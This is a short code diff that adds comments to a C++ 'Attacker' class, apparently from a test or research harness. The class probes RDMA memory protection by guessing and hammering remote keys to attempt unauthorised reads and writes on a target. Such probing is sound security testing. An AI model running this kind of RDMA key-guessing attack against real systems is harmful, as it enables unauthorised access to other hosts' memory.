@@ -70,6 +70,7 @@ class Attacker {
 
 void Attacker::attempt(const std::string& what, bool allowed, ibv_wr_opcode opcode,
                        const Target& target) {
+  // The last queue pair lives on until the end of this attempt.
   const Qp before = end_.next_qp();
   line_.send(Knock{true, target.nic, end_.address()});
   end_.connect(line_.receive<Address>());
@@ -84,7 +85,7 @@ void Attacker::attempt(const std::string& what, bool allowed, ibv_wr_opcode opco
   std::fill(end_.buffer.begin(), end_.buffer.end(), kPoison);
   if (report.write) {
     for (std::uint32_t i = 0; i < target.length; ++i) end_.buffer[i] = next_byte_++;
-    ++next_byte_;
+    ++next_byte_;  // the next bytes differ, also after a multiple of 256
   }
   ibv_send_wr request{};
   request.opcode = opcode;
@@ -165,6 +166,7 @@ void Attacker::guess(const Key& key, std::uint32_t regions_own) {
 }
 
 void Attacker::hammer(const Key& key) {
+  // The last queue pair lives on until the end.
   const Qp before = end_.next_qp();
   line_.send(Knock{true, 0, end_.address()});
   end_.connect(line_.receive<Address>());
@@ -175,6 +177,7 @@ void Attacker::hammer(const Key& key) {
   request.wr.rdma.remote_addr = key.address;
   request.wr.rdma.rkey = key.keys[0];
   const auto patience = std::chrono::steady_clock::now() + std::chrono::seconds(10);
+  // -1: no result yet; 0: IBV_WC_SUCCESS.
   for (bool first = true; report.status <= 0 && std::chrono::steady_clock::now() < patience;
        first = false) {
     std::fill(end_.buffer.begin(), end_.buffer.end(), next_byte_++);
